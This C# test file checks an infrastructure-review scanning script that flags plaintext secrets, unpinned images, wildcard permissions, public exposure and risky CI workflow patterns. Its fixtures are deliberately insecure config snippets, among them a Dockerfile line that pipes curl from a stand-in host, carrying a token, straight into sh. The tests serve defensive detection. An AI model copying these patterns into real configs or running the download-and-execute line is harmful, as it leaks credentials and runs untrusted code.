namespace AgentHost.EndToEnd.Tests.Skills.Bundled;

/// <summary>The script of the skill infrastructure-review.</summary>
public sealed class ScanTests
{
    [Theory]
    [InlineData("c.yml", "services:\n  db:\n    environment:\n      POSTGRES_PASSWORD: x\n", 4, "value of POSTGRES_PASSWORD")]
    [InlineData("c.yml", "environment:\n  - \"REDIS_PASSWORD=hunter2\"\n", 2, "value of REDIS_PASSWORD")]
    [InlineData("pod.yaml", "env:\n  - name: DB_PASSWORD\n    value: hunter2\n", 3, "value of DB_PASSWORD")]
    [InlineData("s.yaml", "kind: Secret\ndata:\n  pass: aHVudGVyMg==\n", 3, "value of pass in a manifest of the kind Secret")]
    [InlineData("Dockerfile", "FROM a:1\nUSER a\nENV DB_PASSWORD hunter2\n", 3, "value of DB_PASSWORD")]
    [InlineData("Dockerfile", "FROM a:1\nUSER a\nARG NPM_TOKEN=hunter2\n", 3, "value of NPM_TOKEN")]
    [InlineData("main.tf", "variable \"db_password\" {\n  default = \"hunter2\"\n}\n", 2, "default of db_password")]
    [InlineData("main.tf", "resource \"x\" \"y\" {\n  password = \"hunter2\"\n}\n", 2, "value of password")]
    [InlineData("main.tf", "resource \"x\" \"y\" {\n  password = \"x\"\n}\n", 2, "value of password")]
    [InlineData("t.json", "{\"Resources\":{\n\"MasterUserPassword\": \"hunter2\"}}\n", 2, "value of MasterUserPassword")]
    [InlineData("c.yml", "url: postgres://u:hunter2@db/x\n", 1, "password in an address")]
    [InlineData("c.yml", "x: AKIAABCDEFGHIJKLM0OP\n", 1, "AWS key")]
    public async Task Secret_IsToldByPlaceAndName_AndNeverShown(string file, string text, int line, string what)
    {
        using var sandbox = new Sandbox().Write(file, text);

        var said = (await ScanAsync(sandbox)).ExitedWith(1).Output;

        Assert.Contains($"secret in the open: ./{file}:{line}: {what}\n", said, StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2", said, StringComparison.Ordinal);
        Assert.DoesNotContain("aHVudGVyMg", said, StringComparison.Ordinal);
        Assert.DoesNotContain("ABCDEFGHIJKLM0OP", said, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("c.yml", "image: postgres\n", "not pinned: ./c.yml:1: image: postgres (no tag)")]
    [InlineData("c.yml", "image: \"redis:latest\"\n", "not pinned: ./c.yml:1: image: redis:latest")]
    [InlineData("c.yml", "image: localhost:5000/redis\n", "not pinned: ./c.yml:1: image: localhost:5000/redis (no tag)")]
    [InlineData("Dockerfile", "ARG BASE=debian\nFROM ${BASE}\nUSER a\n", "not pinned: ./Dockerfile:2: FROM debian (no tag)")]
    [InlineData("Dockerfile", "FROM a:1\nUSER a\nCOPY --from=busybox:latest /a /b\n", "not pinned: ./Dockerfile:3: COPY --from=busybox:latest")]
    [InlineData(".github/workflows/ci.yml", "      - uses: actions/checkout@main\n", "not pinned: ./.github/workflows/ci.yml:1: uses: actions/checkout@main")]
    [InlineData("main.tf", "  source = \"git::https://example.org/x.git\"\n", "not pinned: ./main.tf:1: source of a module without ref=")]
    [InlineData("main.tf", "  policy = jsonencode({ Statement = [{ Action = \"*\" }] })\n", "wildcard rights: ./main.tf:1: Action = \"*\"")]
    [InlineData("main.tf", "  Action = [\n    \"s3:*\",\n  ]\n", "wildcard rights: ./main.tf:2: every action of a service")]
    [InlineData("t.json", "{\"Statement\":[{\n\"Resource\": [\n\"*\"\n]}]}\n", "wildcard rights: ./t.json:3: \"*\" in a list")]
    [InlineData("r.yaml", "rules:\n  - verbs: [\"get\", \"*\"]\n", "wildcard rights: ./r.yaml:2: every verb")]
    [InlineData("t.template", "{\"Resources\":{\n\"PubliclyAccessible\": true}}\n", "open to the world: ./t.template:2: PubliclyAccessible\": true")]
    [InlineData("main.tf", "  cidr_blocks = [\"0.0.0.0/0\"]\n", "open to the world: ./main.tf:1: 0.0.0.0/0")]
    [InlineData("c.yml", "ports:\n  - \"5432:5432\"\n", "open to the world: ./c.yml:2: a database's port on every interface of the machine")]
    [InlineData("Dockerfile", "FROM a:1\n", "privileged: ./Dockerfile:1: no USER: it runs as root")]
    [InlineData("pod.yaml", "securityContext: {privileged: true}\n", "privileged: ./pod.yaml:1: privileged: true")]
    [InlineData(
        "Dockerfile",
        "FROM a:1\nRUN apt-get update && \\\n    curl https://x.example/$TOKEN \\\n    | sh\nUSER a\n",
        "downloads and runs: ./Dockerfile:2: what it gets goes straight to a shell")]
    [InlineData("t.json", "{\"Resources\":{\n\"StorageEncrypted\": false}}\n", "data without protection: ./t.json:2: StorageEncrypted\": false")]
    [InlineData(".github/workflows/ci.yml", "on: pull_request_target\n", "stranger's code with secrets: ./.github/workflows/ci.yml:1: pull_request_target")]
    [InlineData(
        ".github/workflows/ci.yml",
        "- run: echo ${{ github.event.issue.title }}\n",
        "stranger's text in a command: ./.github/workflows/ci.yml:1: ${{ github.event.issue.title")]
    [InlineData("a b/x=1.yml", "image: a\n", "not pinned: ./a b/x=1.yml:1: image: a (no tag)")]
    public async Task Danger_IsTold(string file, string text, string found)
    {
        using var sandbox = new Sandbox().Write(file, text);

        Assert.EndsWith($"== Places to look at\n{found}\n", (await ScanAsync(sandbox)).ExitedWith(1).Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Dockerfile", "FROM golang:1.25 AS build\nFROM scratch\nCOPY --from=build /a /a\nUSER 65532\n")]
    [InlineData("Dockerfile", "FROM node:24@sha256:00 AS Build\nUSER node\nFROM build\nFROM build AS last\n")]
    [InlineData("Dockerfile", "FROM --platform=$BUILDPLATFORM registry.example:5000/a/b:1\nUSER a\nENV NPM_TOKEN=$NPM_TOKEN\n")]
    [InlineData(
        "c.yml",
        "services:\n  a:\n    image: own/app\n    build: .\n  b:\n    build: .\n    image: own/app\n  c:\n    image: ${IMAGE}\n    environment:\n"
        + "      DB_PASSWORD: ${DB_PASSWORD}\n      DB_PASSWORD_FILE: /run/secrets/db\n")]
    [InlineData("values.yaml", "image:\n  repository: nginx\n  tag: \"1.2\"\nexistingSecret: my-secret-1\nautomountServiceAccountToken: true\n")]
    [InlineData("pod.yaml", "env:\n  - name: DB_PASSWORD\n    valueFrom:\n      secretKeyRef: {name: a, key: b}\n  - name: MODE\n    value: fast\n")]
    [InlineData("main.tf", "  # acl = \"public-read\"\n  password = var.db_password\n  token    = \"${var.token}\"\n  acl = \"private\"\n")]
    [InlineData(
        ".github/workflows/ci.yml",
        "permissions:\n  id-token: write\nsteps:\n  - uses: actions/checkout@v5\n  - uses: ./local\n  - env:\n      TOKEN: ${{ secrets.TOKEN }}\n")]
    public async Task WhatIsInOrder_IsNotReported(string file, string text)
    {
        using var sandbox = new Sandbox().Write(file, text);

        Assert.EndsWith("== Places to look at\nnone\n", (await ScanAsync(sandbox)).ExitedWith(0).Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task FilesThatAreNone_AreNotRead()
    {
        using var sandbox = new Sandbox().Write("a.json", "{\"password\":\"hunter2\"}")
            .Write("node_modules/a/Dockerfile", "FROM a\n").Write("b.txt", "FROM a\n");

        Assert.Equal("No infrastructure files are in: .\n", (await ScanAsync(sandbox)).ExitedWith(2).Output);
        Assert.Equal("There is no file or folder none.\n", (await ScanAsync(sandbox, "none")).ExitedWith(2).Output);
    }

    private static Task<AgentResult> ScanAsync(Sandbox sandbox, params string[] words) =>
        BundledSkill.ScriptAsync(sandbox, "infrastructure-review", "scan.sh", words);
}
